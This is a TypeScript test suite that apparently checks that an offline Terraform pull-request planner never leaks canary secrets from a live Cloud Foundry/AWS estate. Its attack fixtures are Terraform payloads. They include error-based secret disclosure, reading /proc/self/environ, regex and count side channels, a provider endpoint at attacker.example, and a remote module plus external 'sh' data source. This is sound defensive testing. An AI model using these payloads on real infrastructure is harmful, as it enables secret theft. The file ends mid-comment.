import { createHash, randomBytes } from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { resolveEstate, type EnvironmentName, type ResolvedEnvironment } from "../../config";
import { buildApp } from "../../stacks/build";
import { bootstrapPlatform } from "../../offline/bootstrap";
import { Rehearsal, runProcess } from "../../offline/harness";
import type { PlatformData } from "../../offline/standin/platform";
import { parsePlan } from "../../plan/plan-json";
import { driftReport } from "../../plan/drift";
import type { SchemaAttribute, SchemaBlock } from "../../offline/standin/values";
import { planCandidate, prPlan, renderResultText, STANDIN_DIR, TERRAFORM_DIR, type PrPlanResult } from "../../offline/pr-plan";
import { GITHUB_COMMENT_LIMIT, renderComment } from "../../offline/pr-comment";
import { checkStack, stackPins } from "../../plan/stack-check";
import { renderDiff } from "../../review/diff";
import { exportSnapshot, parameterPlaceholder, type Snapshot } from "../../offline/snapshot";
import { smallEstate } from "../fixtures/small-estate";
import { filesUnder, setupOnce } from "../helpers";

// Pull-request plans with no credential, end to end on the small fixture estate: a live environment
// seeded with canary secrets (SSM values, a value set by hand, a binding's credentials, a rotated
// parameter), deployed and planned by the trusted drift job with real Terraform, exported as a
// snapshot; then pull requests planned against that snapshot offline, benign ones and one per class of
// attack. The attacks are planned without the stack check (planCandidate) too: the snapshot alone must
// hold back every secret. No canary, nor a hash, an encoding or a reversal of one, may reach any
// output or file a pull request can read: the snapshot, pr-plan's result and text, the comment,
// Terraform's working directory. Then the attacks on the machine that runs Terraform (a provisioner,
// terraform_data, an external data source, file()), each first shown to work without the stack
// check, then refused by it before any Terraform runs; and comments a value tries to forge.
const ROOT = path.join(__dirname, "..", "..");
const ENV: EnvironmentName = "production";

const tag = randomBytes(6).toString("hex");
/** Recognisable secret values, each with this run's random tag in it. */
const canary = (what: string) => `canary-${what}-${tag}`;
/** A 5-character SecureString: too short to carry the tag, found by itself. */
const short = `^${randomBytes(2).toString("hex").slice(0, 3)}~`;
/** A SecureString holding JSON, stored with a trailing newline: its inner field is a secret of its own. */
const inner = canary("inner");
const jsonSecret = `{"api_key":"${inner}","note":"q\\"uote"}\n`;
/** The name of a variable set by hand: a name config does not declare is as telling as a value. */
const handName = `HAND_SET_${tag.toUpperCase()}`;
const reverse = (s: string) => [...s].reverse().join("");
const halves = (s: string) => [s.slice(0, Math.ceil(s.length / 2)), s.slice(Math.ceil(s.length / 2))];
let env: ResolvedEnvironment;
let work: string;
let synthDir: string;
let committed: any;
let snapshot: Snapshot;
let snapshotText: string;
let canaries: string[];
let driftPlan: any;
let liveState: any;
let rotated: string;

/** The current value of a SecureString the drift plan read. */
const snapshotCanary = () => canary("rotated");

/** Every form of a canary that would give it away: itself, its tag, hashes, encodings, reversed, JSON-escaped, its halves. */
function giveaways(): string[] {
  return canaries.flatMap((c) => [
    c,
    c.trim(),
    JSON.stringify(c).slice(1, -1),
    ...(c.length >= 12 ? halves(c) : []),
    c.split("").reverse().join(""),
    Buffer.from(c).toString("base64"),
    Buffer.from(c).toString("base64url"),
    Buffer.from(c).toString("hex"),
    ...["sha256", "sha1", "md5", "sha512"].map((h) => createHash(h).update(c).digest("hex")),
  ]).concat([tag]);
}
function leaks(text: string): string[] {
  return giveaways().filter((g) => text.includes(g) || text.toLowerCase().includes(g.toLowerCase()));
}

setupOnce(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), "notify-pr-plan-test-"));
  env = resolveEstate(smallEstate()).find((e) => e.name === ENV)!;
  synthDir = path.join(work, "synth");
  buildApp(synthDir, [env]).synth();
  committed = JSON.parse(fs.readFileSync(path.join(synthDir, "stacks", ENV, "cdk.tf.json"), "utf8"));

  // The live side: every parameter holds a canary (one of 5 characters, one JSON with a trailing
  // newline); the environment is deployed by real Terraform.
  const platform: PlatformData = bootstrapPlatform(env);
  for (const [name, p] of Object.entries(platform.aws.parameters)) {
    (p as { value: string }).value = name.endsWith("/SECRET_KEY") ? short : name.endsWith("/PROVIDER_API_KEY") ? jsonSecret : canary(`ssm${name.replace(/\W/g, "")}`);
  }
  const r = await Rehearsal.start(ROOT, synthDir, { [ENV]: platform }, { inherit: process.env, work: path.join(work, "live") });
  try {
    await r.plan(ENV, "deploy.plan");
    await r.apply(ENV, "deploy.plan");
    // New apps are bound through their manifests; the next deploy imports those bindings.
    await r.plan(ENV, "settle.plan");
    await r.apply(ENV, "settle.plan");
    // Then the platform moves on: autoscaled apps at their minimum, a variable set by hand, a binding's
    // credentials, a rotated secret.
    const live = r.standin.platforms[ENV];
    for (const a of Object.values(live.objects("cloudfoundry_app"))) {
      const declared = env.apps.find((x) => x.name === a.name)!;
      if (declared.instances.mode === "autoscaled") a.instances = declared.instances.autoscaler.min;
    }
    // What people copy into the estate by hand, every place the deny-list let through: the API's
    // labels, annotations (a database password inside a URL), command, health endpoint and a variable
    // whose name is telling; a route's labels and annotations; a queue's tags.
    const api = Object.values(live.objects("cloudfoundry_app")).find((a) => a.name === "notify-api")!;
    const dbUrl = `postgres://notify:${canary("bindingpassword")}@db.internal:5432/notify`;
    Object.assign(api, {
      environment: { ...(api.environment as Record<string, string>), [handName]: canary("handset") },
      labels: { team: canary("applabel") },
      annotations: { db: dbUrl },
    });
    // The command and health endpoint by hand on an app without a floor: on the API (a floor of 25) the
    // guard rightly refuses the deploy that puts them back, which is not what these tests are about.
    const unfloored = Object.values(live.objects("cloudfoundry_app")).find((a) => a.name === "receipts")!;
    Object.assign(unfloored, {
      command: `${String(unfloored.command)} --token ${canary("command")}`,
      health_check_http_endpoint: `/_status?token=${canary("endpoint")}`,
    });
    const route = Object.values(live.objects("cloudfoundry_route"))[0];
    Object.assign(route, { labels: { [`k-${tag}`]: "v" }, annotations: { note: canary("routeannotation") } });
    // An app and a queue made by hand: running, not managed. The app's labels hold every secret the
    // way a program or a hurried person copies one: short, JSON-escaped, trimmed, base64, reversed,
    // split over two labels, the inner field of a JSON value.
    const rotatedValue = canary("rotated");
    live.put("cloudfoundry_app", "0a0a0a0a-0000-4000-8000-000000000001", {
      ...api,
      id: "0a0a0a0a-0000-4000-8000-000000000001",
      name: "made-by-hand",
      environment: { TOKEN: canary("byhand") },
      labels: {
        short: `x${short}y`,
        escaped: JSON.stringify(jsonSecret).slice(1, -1),
        trimmed: jsonSecret.trim(),
        inner,
        b64: Buffer.from(rotatedValue).toString("base64"),
        reversed: reverse(rotatedValue),
        part1: halves(rotatedValue)[0],
        part2: halves(rotatedValue)[1],
      },
    });
    const q = Object.values(live.objects("aws_sqs_queue"))[0];
    const url = String(q.url).replace(String(q.name), "productionmade-by-hand");
    live.put("aws_sqs_queue", url, { ...q, id: url, url, name: "productionmade-by-hand" });
    const tagged = Object.values(live.objects("aws_sqs_queue")).find((x) => x.name !== "productionmade-by-hand")!;
    Object.assign(tagged, { tags: { ...(tagged.tags as object), owner: canary("sqstag") }, tags_all: { ...(tagged.tags_all as object), owner: canary("sqstag") } });
    for (const b of Object.values(live.objects("cloudfoundry_service_credential_binding"))) b.credential_binding = JSON.stringify({ credentials: { password: canary("bindingpassword"), uri: dbUrl } });
    // A secret every app holds, notify-api included.
    const first = env.parameters.find((p) => p.allowedApps === "all" && p.kind === "secret")!.parameterName;
    rotated = first;
    (live.data.aws.parameters as Record<string, any>)[first] = { ...live.data.aws.parameters[first], value: rotatedValue, version: 2 };
    live.save();
    canaries = [
      ...Object.values(live.data.aws.parameters).map((p) => p.value),
      ...Object.values(platform.aws.parameters).map((p) => p.value),
      ...["handset", "bindingpassword", "byhand", "applabel", "command", "endpoint", "routeannotation", "sqstag", "inner"].map(canary),
      handName,
    ];
    // The drift job: the plan Terraform makes with the (trusted) plan identity, and the state.
    driftPlan = (await r.plan(ENV, "drift.plan")).json;
    liveState = JSON.parse(fs.readFileSync(path.join(work, "live", `${ENV}.tfstate`), "utf8"));
  } finally {
    await r.close();
  }
  const parsed = parsePlan(driftPlan);
  if ("problem" in parsed) throw new Error(parsed.problem);
  snapshot = exportSnapshot({ env, plan: parsed.plan, state: liveState, takenAt: new Date("2026-01-01T10:00:00Z"), commit: "0123456789abcdef" });
  snapshotText = JSON.stringify(snapshot);
});
afterAll(() => {
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

describe("the snapshot export", () => {
  test("the live side really holds the canaries: in the drift plan and the state", () => {
    expect(leaks(JSON.stringify(driftPlan)).length).toBeGreaterThan(0);
    expect(JSON.stringify(liveState)).toContain(JSON.stringify(jsonSecret).slice(1, -1));
    expect(JSON.stringify(driftPlan)).toContain(canary("bindingpassword"));
    expect(JSON.stringify(driftPlan)).toContain(canary("handset"));
  });

  test("no canary, nor a hash, an encoding or a reversal of one, is in the export", () => {
    expect(leaks(snapshotText)).toEqual([]);
  });

  test("the export depends on no secret value at all (no hash, length, prefix or sort position): other values and names of other lengths give the same snapshot", () => {
    const swap = (text: string) => canaries.reduce((t, c, i) => t.split(JSON.stringify(c).slice(1, -1)).join(`x${"y".repeat(i * 7 + 3)}`), text);
    const plan2 = parsePlan(JSON.parse(swap(JSON.stringify(driftPlan))));
    if ("problem" in plan2) throw new Error(plan2.problem);
    const again = exportSnapshot({ env, plan: plan2.plan, state: JSON.parse(swap(JSON.stringify(liveState))), takenAt: new Date("2026-01-01T10:00:00Z"), commit: "0123456789abcdef" });
    expect(JSON.stringify(again) === snapshotText).toBe(true);
  });

  test("a parameter is its name and version; an app's variable is that placeholder while it holds the current value, another otherwise", () => {
    const p = snapshot.platform.aws.parameters[rotated];
    expect(p).toEqual({ type: "SecureString", value: parameterPlaceholder(rotated, 2), version: 2 });
    const api = Object.values(snapshot.platform.resources.cloudfoundry_app).find((a) => a.name === "notify-api")!;
    const variable = env.parameters.find((x) => x.parameterName === rotated)!.name;
    // The app still runs the value of version 1, which is no longer current: not shown as version 2's.
    expect((api.environment as Record<string, string>)[variable]).toBe(`<not from config: notify-api/${variable} #1>`);
    // A variable config does not declare: its name is gone too.
    expect(Object.keys(api.environment as object).filter((k) => k.startsWith("<"))).toEqual(["<not declared #1>"]);
    // Settings this repository holds stay values.
    expect((api.environment as Record<string, string>).FLASK_APP).toBe("application.py");
  });

  test("what runs but Terraform does not manage is there too, sanitized: a pull request adopting it plans an import", () => {
    const byHand = snapshot.platform.resources.cloudfoundry_app["0a0a0a0a-0000-4000-8000-000000000001"];
    expect([byHand.name, byHand.environment]).toEqual(["made-by-hand", { "<not declared #1>": "<not exported: cloudfoundry_app.environment>" }]);
    expect(Object.keys(byHand.labels as object)).toEqual([1, 2, 3, 4, 5, 6, 7, 8].map((n) => `<not declared #${n}>`));
    expect(Object.values(snapshot.platform.resources.aws_sqs_queue).map((q) => q.name)).toContain("productionmade-by-hand");
  });

  test("the backstop: a secret that config itself declares is still refused, naming where, never what", () => {
    const parsed = parsePlan(driftPlan);
    if ("problem" in parsed) throw new Error(parsed.problem);
    const plan = JSON.parse(JSON.stringify(parsed.plan));
    // A tag whose value config sets to a SecureString's value (its base64): the allow-list lets a declared value leave.
    const queue = plan.prior_state.values.root_module.resources.find((r: any) => r.type === "aws_sqs_queue");
    const planned = plan.resource_changes.find((r: any) => r.address === queue.address);
    queue.values.tags = { leaked: Buffer.from(snapshotCanary()).toString("base64") };
    planned.change.after.tags = queue.values.tags;
    let message = "";
    try {
      exportSnapshot({ env, plan, state: liveState, takenAt: new Date() });
    } catch (err) {
      message = (err as Error).message;
    }
    expect(message).toMatch(/^refused to export: a secret value in \$\.platform\.resources\.aws_sqs_queue\..*\.tags\.leaked;/);
    expect(leaks(message)).toEqual([]);
  });
});

/** Every resource schema of the two providers the estate uses (providers/*.schema.json). */
const SCHEMAS: Record<string, SchemaBlock> = Object.assign(
  {},
  ...["cloudfoundry-1.16.0", "aws-5.100.0.subset"].map((f) => {
    const s = JSON.parse(fs.readFileSync(path.join(ROOT, "providers", `${f}.schema.json`), "utf8"));
    return Object.fromEntries(Object.entries(Object.values(s.provider_schemas as Record<string, any>)[0].resource_schemas as Record<string, any>).map(([t, v]) => [t, v.block]));
  }),
);

/**
 * `values` with a canary in every attribute its type's schema has that can hold text: each string,
 * each string in a list, a new key (and every value) in each map, each string field of nested
 * objects. Numbers and switches stay. `except`: attributes left alone. `keys`: whether maps get a new key.
 */
function plantEverywhere(type: string, values: any, except: readonly string[] = [], keys = true): any {
  let n = 0;
  const text = () => canary(`e${n++}`);
  const value = (t: unknown, old: any): any => {
    if (t === "string") return text();
    if (Array.isArray(t) && t[0] === "map") {
      const o = old && typeof old === "object" ? old : {};
      return { ...Object.fromEntries(Object.keys(o).map((k) => [k, value(t[1], o[k])])), ...(keys ? { [`key-${tag}-${n++}`]: value(t[1], undefined) } : {}) };
    }
    if (Array.isArray(t) && (t[0] === "list" || t[0] === "set")) return (Array.isArray(old) && old.length ? old : [undefined]).map((x: any) => value(t[1], x));
    return old;
  };
  const object = (attributes: Record<string, SchemaAttribute>, old: any): any => {
    const o = { ...(old ?? {}) };
    for (const [k, a] of Object.entries(attributes)) {
      if (except.includes(k)) continue;
      if (a.nested_type) {
        const one = (x: any) => object(a.nested_type!.attributes as Record<string, SchemaAttribute>, x);
        o[k] = a.nested_type.nesting_mode === "single" ? one(o[k]) : (Array.isArray(o[k]) && o[k].length ? o[k] : [undefined]).map(one);
      } else o[k] = value(a.type, o[k]);
    }
    return o;
  };
  const block = SCHEMAS[type];
  if (!block) throw new Error(`no schema for ${type}`);
  return object(block.attributes as Record<string, SchemaAttribute>, values);
}

describe("canaries in every attribute of every type the export writes", () => {
  let planted: { plan: any; state: any };
  let exported = "";
  beforeAll(() => {
    const plan = JSON.parse(JSON.stringify(driftPlan));
    for (const r of plan.prior_state.values.root_module.resources) {
      if (r.mode === "managed") r.values = plantEverywhere(r.type, r.values);
      // What the platform lists that config does not manage: everything but the names adopting it needs.
      else if (r.type === "cloudfoundry_apps") r.values.apps = r.values.apps.map((a: any) => plantEverywhere("cloudfoundry_app", a, ["name", "id", "path", "source_code_hash"]));
      else if (r.type === "cloudfoundry_routes") r.values.routes = r.values.routes.map((x: any) => plantEverywhere("cloudfoundry_route", x, ["host", "path", "id", "domain"]));
      else if (r.type === "cloudfoundry_app") Object.assign(r.values, { id: canary("foreign-id"), memory: canary("foreign-memory") });
      else if (["cloudfoundry_org", "cloudfoundry_space", "cloudfoundry_domain", "cloudfoundry_service_instance"].includes(r.type)) r.values.id = canary(`${r.type}-id`);
      else if (r.type === "aws_caller_identity") Object.assign(r.values, { account_id: canary("account"), arn: canary("caller") });
    }
    const state = JSON.parse(JSON.stringify(liveState));
    for (const r of state.resources.filter((x: any) => x.mode === "managed")) {
      for (const i of r.instances) {
        i.attributes = plantEverywhere(r.type, i.attributes);
        Object.assign(i, { private: canary("private"), deposed: canary("deposed"), unknown_key: canary("unknownkey"), dependencies: [...(i.dependencies ?? []), canary("dependency")] });
        i.sensitive_attributes = [...(i.sensitive_attributes ?? []), [{ type: "get_attr", value: "environment" }, { type: "index", value: { value: canary("sensitivepath"), type: "string" } }]];
      }
      Object.assign(r, { unknown_key: canary("resourcekey") });
    }
    Object.assign(state, { outputs: { o: { value: canary("output"), type: "string" } } });
    planted = { plan, state };
    const parsed = parsePlan(plan);
    if ("problem" in parsed) throw new Error(parsed.problem);
    exported = JSON.stringify(exportSnapshot({ env, plan: parsed.plan, state, takenAt: new Date("2026-01-01T10:00:00Z") }));
  });

  test("the canaries are there to be taken: in every managed object of every type, in the state and in what the platform lists", () => {
    const managed = planted.plan.prior_state.values.root_module.resources.filter((r: any) => r.mode === "managed");
    expect([...new Set(managed.map((r: any) => r.type))].sort()).toEqual(Object.keys(snapshot.platform.resources).sort());
    for (const r of managed) expect([r.address, JSON.stringify(r.values).split(tag).length > 3]).toEqual([r.address, true]);
    expect(JSON.stringify(planted.state).split(tag).length).toBeGreaterThan(500);
  });

  test("no form of any canary is in the export", () => {
    expect(leaks(exported)).toEqual([]);
  });

  test("what the export writes of each type is only allow-listed attributes' values and placeholders", () => {
    const s = JSON.parse(exported) as Snapshot;
    const app = Object.values(s.platform.resources.cloudfoundry_app).find((a) => a.name === "notify-api")!;
    const byHand = Object.values(s.platform.resources.cloudfoundry_app).find((a) => a.name === "receipts")!;
    expect([byHand.command, byHand.health_check_http_endpoint]).toEqual(["<not exported: cloudfoundry_app.command>", "<not exported: cloudfoundry_app.health_check_http_endpoint>"]);
    expect(Object.entries(app.labels as object)).toEqual([1, 2].map((n) => [`<not declared #${n}>`, "<not exported: cloudfoundry_app.labels>"]));
    expect(Object.keys(s.state!.resources[0])).toEqual(["mode", "type", "name", "provider", "instances"]);
    expect(s.state!.outputs).toEqual({});
  });
});

describe("the drift job's log names what changed, never a value", () => {
  test("the live canaries reach the drift plan; the drift log names the attributes, counts the names config does not declare, and holds no canary", () => {
    const text = JSON.stringify(driftPlan);
    for (const c of [canary("command"), canary("endpoint"), canary("applabel"), canary("routeannotation"), canary("sqstag"), handName]) expect(text).toContain(c);
    const parsed = parsePlan(driftPlan);
    if ("problem" in parsed) throw new Error(parsed.problem);
    const { lines } = driftReport(ENV, parsed.plan);
    const log = lines.join("\n");
    expect(leaks(log)).toEqual([]);
    const api = lines.find((l) => l.includes("cloudfoundry_app.notify-api:"))!;
    expect(api).toMatch(/changed outside Terraform \(annotations: 1 key config does not declare added; environment: 1 key config does not declare added; .*labels: 1 key config does not declare added/);
    const receipts = lines.find((l) => l.includes("cloudfoundry_app.receipts:"))!;
    expect(receipts).toMatch(/changed outside Terraform \(command changed; .*health_check_http_endpoint changed/);
  });

  test("with a canary in every attribute of every object, before and after, planned and drifted, the log still holds none", () => {
    const plan = JSON.parse(JSON.stringify(driftPlan));
    for (const c of [...plan.resource_changes, ...(plan.resource_drift ?? [])]) {
      if (c.mode !== "managed") continue;
      // What config plans (after) is this repository's text, its map keys config's names; every value in it a canary too.
      for (const side of ["before", "after"]) if (c.change[side]) c.change[side] = plantEverywhere(c.type, c.change[side], [], side === "before");
    }
    for (const d of plan.resource_drift ?? []) if (d.change.after) d.change.after = plantEverywhere(d.type, d.change.after);
    expect(JSON.stringify(plan).split(tag).length).toBeGreaterThan(500);
    const parsed = parsePlan(plan);
    if ("problem" in parsed) throw new Error(parsed.problem);
    const { lines } = driftReport(ENV, parsed.plan);
    expect(lines.length).toBeGreaterThan(5);
    expect(leaks(lines.join("\n"))).toEqual([]);
  });
});

/** A pull request's candidate, planned against the snapshot (by pr-plan, or without the stack check), with everything it left on disk. */
let planned = 0;
async function plan(candidate: unknown, how: typeof prPlan = prPlan): Promise<{ result: PrPlanResult; text: string; files: string; dir: string }> {
  // Short: the stand-in's unix sockets live under it (at most 108 bytes a path).
  const dir = path.join(work, `pr${planned++}`);
  fs.mkdirSync(dir, { recursive: true });
  const result = await how({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date("2026-01-01T11:30:00Z"), work: dir, processEnv: process.env });
  // Every file left is text, so that searching it is searching everything in it.
  const binary = Object.keys(filesUnder(dir)).filter((f) => {
    try {
      new TextDecoder("utf-8", { fatal: true }).decode(fs.readFileSync(path.join(dir, f)));
      return false;
    } catch {
      return true;
    }
  });
  if (binary.length) throw new Error(`pr-plan left binary files a text search cannot see into: ${binary.join(", ")}`);
  const files = Object.entries(filesUnder(dir))
    .map(([f, t]) => `${f}\n${t}`)
    .join("\n");
  return { result, text: renderResultText(result), files, dir };
}

const ssm = (c: any) => Object.keys(c.data.aws_ssm_parameter)[0];
const secretRef = (c: any) => `data.aws_ssm_parameter.${ssm(c)}.value`;
const clone = () => JSON.parse(JSON.stringify(committed));

/**
 * What each attack does get to show, in pr-plan's own text: the placeholder standing in for the secret
 * (so the attack works, and a real secret would have been shown), or what the attack derived from it.
 */
const placeholder = () => snapshot.platform.aws.parameters[`/example/${ENV}/PROVIDER_API_KEY`].value;
const EVIDENCE: Record<string, (text: string) => boolean> = {
  "functions whose error repeats their argument (parseint, cidrhost, lookup, timeadd, uuidv5)": (t) => t.includes(placeholder()),
  // What Terraform's environment holds (the job's own never gets there: CF_PASSWORD is set here).
  "an error that repeats the process environment": (t) => t.includes("TF_REATTACH_PROVIDERS=") && !t.includes("CF_PASSWORD") && /HOME=[^\s]*\/terraform\b/.test(t),
  "an import block's id, printed as Preparing import": (t) => t.includes(`Preparing import... [id=${placeholder()}]`),
  // 3 probes when the value starts with "<", and one queue per character.
  "side channels that drop the sensitive mark: can(regex()) one character at a time, a count from a secret": (t) => t.includes(`Plan: ${placeholder().length + 3} to add`),
  "attributes providers compute without the mark: environment of data.cloudfoundry_apps, tags_all": (t) => t.includes("aws_sqs_queue.tagged: create"),
  "a lookup named by a secret: the provider's not-found error repeats the name": (t) => t.includes(placeholder()),
  "a second provider configuration with the attacker's URL, and nonsensitive followed by a tab": (t) => t.includes("aws_sqs_queue.sent: create"),
  // The data sources read the snapshot's placeholders, which the error repeats (jsonencode writes < and >
  // as \u003c and \u003e; Terraform wraps the message's lines).
  "labels, annotations, commands, endpoints and variable names read through data.cloudfoundry_apps, data.cloudfoundry_app and data.cloudfoundry_routes into an error": (t) =>
    ["not declared #1", "not exported: cloudfoundry_app.labels", "not exported: cloudfoundry_app.annotations", "not exported: cloudfoundry_route.annotations", "not exported: cloudfoundry_route.labels"].every((p) =>
      t.replace(/\s+/g, " ").includes(p),
    ),
};

/** Each class of attack a trusted-stack check lets through, as a candidate stack. */
const ATTACKS: Record<string, (c: any) => void> = {
  "labels, annotations, commands, endpoints and variable names read through data.cloudfoundry_apps, data.cloudfoundry_app and data.cloudfoundry_routes into an error": (c) => {
    c.data.cloudfoundry_app.byhand = { name: "made-by-hand", space_name: env.space, org_name: env.org };
    c.locals = {
      ...c.locals,
      h: "${parseint(jsonencode([for a in data.cloudfoundry_apps.live.apps : [a.name, a.labels, a.annotations, a.command, a.health_check_http_endpoint, a.environment == null ? [] : keys(a.environment)]]), 10)}",
      i: "${parseint(jsonencode([for r in data.cloudfoundry_routes.live.routes : [r.labels, r.annotations]]), 10)}",
      j: "${parseint(jsonencode([data.cloudfoundry_app.byhand.labels, data.cloudfoundry_app.byhand.annotations, data.cloudfoundry_app.byhand.command]), 10)}",
    };
    c.resource.aws_sqs_queue.metadata = { name: "production-metadata", tags: { h: "${local.h}", i: "${local.i}", j: "${local.j}" } };
  },
  "functions whose error repeats their argument (parseint, cidrhost, lookup, timeadd, uuidv5)": (c) => {
    const s = secretRef(c);
    c.locals = { ...c.locals, a: `\${parseint(${s}, 10)}`, b: `\${cidrhost(${s}, 1)}`, d: `\${timeadd(${s}, "1h")}`, e: `\${lookup({}, ${s})}`, f: `\${uuidv5(${s}, "x")}` };
    c.resource.aws_sqs_queue.fn = { name: "production-fn", tags: { a: "${local.a}", b: "${local.b}", d: "${local.d}", e: "${local.e}", f: "${local.f}" } };
  },
  "an error that repeats the process environment": (c) => {
    c.locals = { ...c.locals, g: '${parseint(file("/proc/self/environ"), 10)}' };
    c.resource.aws_sqs_queue.env = { name: "production-env", tags: { g: "${local.g}" } };
  },
  "an import block's id, printed as Preparing import": (c) => {
    c.import = [...(c.import ?? []), { to: "aws_sqs_queue.imported", id: `\${${secretRef(c)}}` }];
    c.resource.aws_sqs_queue.imported = { name: "production-imported" };
  },
  "side channels that drop the sensitive mark: can(regex()) one character at a time, a count from a secret": (c) => {
    const s = secretRef(c);
    c.resource.aws_sqs_queue.probe = { count: `\${can(regex("^<", nonsensitive(${s}))) ? 3 : 0}`, name: "production-probe-${count.index}" };
    c.resource.aws_sqs_queue.length = { count: `\${length(nonsensitive(${s}))}`, name: "production-length-${count.index}" };
  },
  "attributes providers compute without the mark: environment of data.cloudfoundry_apps, tags_all": (c) => {
    c.output = { environments: { value: "${[for a in data.cloudfoundry_apps.live.apps : a.environment]}" } };
    c.resource.aws_sqs_queue.tagged = { name: "production-tagged", tags: { s: `\${jsonencode([for a in data.cloudfoundry_apps.live.apps : a.environment])}` } };
  },
  "a lookup named by a secret: the provider's not-found error repeats the name": (c) => {
    // cloudfoundry_domain's miss says "Given name <name> not in the list of domains." (datasource_domain.go:118-123);
    // cloudfoundry_app's does not repeat the name (semantics row 70).
    c.data.cloudfoundry_domain.byname = { name: `\${nonsensitive(${secretRef(c)})}` };
  },
  "a second provider configuration with the attacker's URL, and nonsensitive followed by a tab": (c) => {
    c.provider.aws = [...[].concat(c.provider.aws), { alias: "attacker", region: "eu-west-1", endpoints: [{ sqs: "https://attacker.example" }] }];
    c.resource.aws_sqs_queue.sent = { provider: "aws.attacker", name: "production-sent", tags: { s: `\${nonsensitive\t(${secretRef(c)})}` } };
  },
};

describe("a pull request's plan against the snapshot", () => {
  const results: Record<string, { result: PrPlanResult; text: string; files: string; dir: string }> = {};
  setupOnce(async () => {
    // A credential in the environment of the process that runs pr-plan: Terraform must never get it.
    process.env.CF_PASSWORD = canary("processenv");
    canaries.push(canary("processenv"));
    const memory = clone();
    const api = Object.keys(memory.resource.cloudfoundry_app).find((k) => memory.resource.cloudfoundry_app[k].name === "notify-api")!;
    memory.resource.cloudfoundry_app[api].memory = "3072M";
    const jobs: [string, unknown][] = [
      ["unchanged", clone()],
      ["memory", memory],
      ...Object.entries(ATTACKS).map(([name, f]) => {
        const c = clone();
        f(c);
        return [name, c] as [string, unknown];
      }),
    ];
    try {
      // The attacks without the stack check: what the snapshot alone holds back.
      for (let i = 0; i < jobs.length; i += 2) await Promise.all(jobs.slice(i, i + 2).map(async ([n, c]) => (results[n] = await plan(c, n in ATTACKS ? planCandidate : prPlan))));
    } finally {
      delete process.env.CF_PASSWORD;
    }
  });

  test("the committed stack plans what the live platform needs and nothing else: the rotated secret and the variable set by hand", () => {
    const { result } = results.unchanged;
    expect("summary" in result.plan && result.plan.summary).toMatch(/^Plan: 0 to add, \d+ to change, 0 to destroy\.$/);
    const variable = env.parameters.find((x) => x.parameterName === rotated)!.name;
    const holders = env.apps.filter((a) => a.secretEnv.some((s) => s.name === variable)).map((a) => a.name);
    const apps = ("lines" in result.plan ? result.plan.lines : []).filter((l) => l.startsWith("cloudfoundry_app."));
    expect(apps.map((l) => [l.split(":")[0], /environment \(([^)]*)\)/.exec(l)?.[1]])).toEqual(
      [...new Set(["notify-api", ...holders])].sort().map((a) => [`cloudfoundry_app.${a}`, [a === "notify-api" ? "-<not declared #1>" : "", holders.includes(a) ? `~${variable}` : ""].filter(Boolean).join(" ")]),
    );
    expect(result.guard.verdict).toBe("safe");
    expect(result.snapshot).toEqual({ taken_at: "2026-01-01T10:00:00.000Z", age_hours: 1.5, stale: false, commit: "0123456789abcdef" });
  });

  test("a change shows in the offline diff and in the plan, with the guard's verdict", () => {
    const { result, text } = results.memory;
    expect(result.diff).toEqual([expect.stringMatching(/^app notify-api: memory .* -> 3072M$/)]);
    expect(text).toMatch(/cloudfoundry_app\.notify-api: update: .*memory/);
    expect(text).toMatch(/plan guard \(production\): \d+ resource changes? judged: no resource destroyed or replaced, nothing refused/);
  });

  test("Terraform plans in a directory holding only the candidate, its state override, the snapshot's state and a stand-in zip; the snapshot's platform is beside it, for the stand-in", () => {
    const { dir } = results.unchanged;
    const top = (d: string) => fs.readdirSync(d).filter((f) => f !== ".terraform" && f !== ".terraform.lock.hcl").sort();
    expect(top(dir)).toEqual([STANDIN_DIR, TERRAFORM_DIR].sort());
    expect(top(path.join(dir, TERRAFORM_DIR))).toEqual(["app.zip", "cdk.tf.json", "pr_plan_override.tf.json", "terraform.tfstate"]);
    expect(fs.readdirSync(path.join(dir, STANDIN_DIR))).toContain(`${ENV}.platform.json`);
  });

  test.each(Object.keys(ATTACKS))("the stack check refuses every attack but the import's id (which the snapshot holds back): %s", async (name) => {
    const c = clone();
    ATTACKS[name](c);
    const refused = await checkStack(c, stackPins(env));
    expect([name, refused.length > 0]).toEqual([name, name !== "an import block's id, printed as Preparing import"]);
  });

  test.each(Object.keys(ATTACKS))("no canary reaches anything the pull request can read: %s", (name) => {
    const { result, text, files } = results[name];
    // The attack ran and reached what it aimed at: the snapshot's placeholder, never the value.
    expect([name, EVIDENCE[name](text)]).toEqual([name, true]);
    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
    expect(leaks([JSON.stringify(result), text, comment, files].join("\n"))).toEqual([]);
  });

  test("a stale or missing snapshot is said, not hidden", async () => {
    const stale = await prPlan({ root: ROOT, env, candidate: clone(), reference: committed, snapshot: { missing: "no snapshot at x.json" }, now: new Date(), processEnv: process.env });
    expect(renderResultText(stale)).toContain("snapshot: MISSING (no snapshot at x.json); no plan against the live estate");
    expect(stale.guard.verdict).toBe("not run");
    const old = { ...results.unchanged.result, snapshot: { taken_at: "2026-01-01T10:00:00.000Z", age_hours: 30, stale: true } };
    expect(renderResultText(old)).toContain("30 hours old (STALE: older than 3 hours; the drift job has not exported since)");
  });

  test("a stack the stack check refuses is given to no Terraform: the result names what it refused", async () => {
    const c = clone();
    c.terraform.required_providers.http = { source: "hashicorp/http" };
    c.module = { x: { source: "git::https://attacker.example/m.git" } };
    c.data.external = { x: { program: ["sh"] } };
    const dir = path.join(work, "refused");
    const r = await prPlan({ root: ROOT, env, candidate: c, reference: committed, snapshot, now: new Date(), work: dir, processEnv: process.env });
    expect(r.plan).toEqual({ skipped: "refused by the stack check (npm run stack-check), 3 problems: not given to Terraform" });
    expect(r.refused).toEqual([
      "module: a top-level block kind stacks/ never writes (modules, outputs, checks, moved and others are refused)",
      "terraform.required_providers.http: not allowed: the production state backend and the two providers are pinned (stacks/environment-stack.ts)",
      'data.external.x: data source type "external" is not one this estate declares (it needs provider "external")',
    ]);
    expect(r.guard).toEqual({ verdict: "not run", text: "plan guard (production): not run, the stack check refused the candidate" });
    expect(fs.existsSync(dir)).toBe(false);
    expect(renderResultText(r)).toContain("the stack check refused:\n  module: a top-level block kind");
  });
});

/**
 * The attacks on the machine that runs Terraform. Each is first run without the stack check, the way
